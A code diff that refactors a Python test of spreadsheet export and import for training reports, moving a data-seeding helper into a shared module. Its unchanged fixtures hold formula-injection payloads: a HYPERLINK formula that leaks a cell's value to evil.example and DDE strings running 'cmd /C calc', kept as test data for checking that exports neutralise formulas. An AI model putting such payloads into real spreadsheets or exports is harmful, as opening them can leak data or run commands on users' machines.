@@ -8,7 +8,6 @@ text; the files are read back here as a spreadsheet would read them.
 from __future__ import annotations
 
 import csv
-import datetime as dt
 import re
 from collections.abc import Iterator, Mapping
 from pathlib import Path
@@ -20,21 +19,16 @@ from openpyxl import Workbook, load_workbook
 from openpyxl.utils import get_column_letter
 from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
-from bot.forms.definitions import FORMS
 from bot.reports_io import (
     COLUMNS,
-    FORMS_BY_KIND,
     ImportResult,
     export_reports,
     import_reports,
-    parse_rows,
     write_report_rows,
 )
 from models.queries import ensure_user
-from models.reports import NewReport, insert_reports
+from tests.integration.training_reports import NOW, TODAY, store_trainings
 
-TODAY = dt.date(2026, 11, 28)
-NOW = dt.datetime(2026, 11, 28, 12, 0, tzinfo=dt.UTC)
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -43,44 +37,12 @@ DANGEROUS: tuple[Mapping[str, str], ...] = (
     {"place": HYPERLINK, "partner": "@SUM(1+1)*cmd|' /C calc'!A0", "notes": "+cmd|' /C calc'!A0"},
     {"place": "-2+3+cmd|' /C calc'!A0", "partner": "=1+1", "notes": "Jacmel;=1+1"},
 )
-TRAINING_ROW = {
-    "kind": "training",
-    "country": "HT",
-    "place": "Jacmel",
-    "field": "justice",
-    "target_group": "police",
-    "training_type": "session",
-    "national_programme": "no",
-    "start_date": "2026-04-14",
-    "duration_unit": "hours",
-    "duration": "6.5",
-    "participants_women": "20",
-    "participants_men": "9",
-    "participants_other": "1",
-}
 
 
 async def _store_dangerous_reports(session: AsyncSession) -> list[UUID]:
     """Reports whose text answers are formulas, stored as the chat stores answers."""
-    (base,), errors = parse_rows([TRAINING_ROW], today=TODAY)
-    assert errors == []
-    author = await ensure_user(session, 5550001, "Officer", "en")
-    form = FORMS_BY_KIND["training"]
-    reports = [
-        NewReport(
-            id=uuid4(),
-            kind="training",
-            form_id=form.id,
-            form_version=FORMS[form.id].version,
-            author_user_id=author.id,
-            answers={**base.answers, **text},
-            computed=base.computed,
-        )
-        for text in DANGEROUS
-    ]
-    await insert_reports(session, reports, now=NOW)
-    await session.commit()
-    return [report.id for report in reports]
+    _author, ids = await store_trainings(session, DANGEROUS)
+    return ids
 
 
 def _csv_rows(path: Path) -> list[list[str]]:
